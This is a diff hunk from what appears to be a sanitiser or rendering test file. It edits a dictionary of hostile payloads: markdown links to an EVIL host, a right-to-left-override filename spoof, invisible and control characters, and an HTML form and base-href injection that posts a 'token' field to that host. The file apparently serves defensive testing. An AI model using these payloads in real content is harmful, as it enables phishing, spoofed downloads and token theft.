@@ -29,7 +29,8 @@ PAYLOADS = {
     "markdown": f"[click]({EVIL}) ![i]({EVIL}/m.png) <{EVIL}> `x` **bold**",
     "bidi": "invoice\u202egnp.exe \u2066hidden\u2069 \u200fright\u200e",
     "invisible": "pay\u200bpal\u2060 zero\ufeff soft\u00ad nul\u0000 esc\u001b[31m tag\U000e0041",
-    "form": f'<form action="{EVIL}"><input name=x><button>Go</button></form><base href="{EVIL}/">',
+    "form": f'<form action="{EVIL}"><input name=token><button>Go</button></form>'
+    f'<base href="{EVIL}/">',
 }
 INVISIBLE = "\u202e\u2066\u2069\u200f\u200e\u200b\u2060\ufeff\u00ad\u0000\u001b\U000e0041"
 
